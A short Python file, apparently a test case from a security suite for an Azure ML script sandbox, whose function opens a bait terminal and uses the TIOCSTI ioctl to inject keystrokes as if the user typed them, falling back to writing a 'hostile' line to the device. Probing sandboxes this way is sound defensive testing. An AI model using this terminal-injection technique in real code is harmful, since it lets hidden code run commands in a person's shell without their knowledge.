"""Types a command at the person's terminal, as if the person had."""

import fcntl
import os
import termios

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    terminal = os.open(BAIT["terminal"], os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
    except OSError:
        os.write(terminal, b"hostile\n")
        return f"wrote to {BAIT['terminal']}"
    return f"typed at {BAIT['terminal']}"
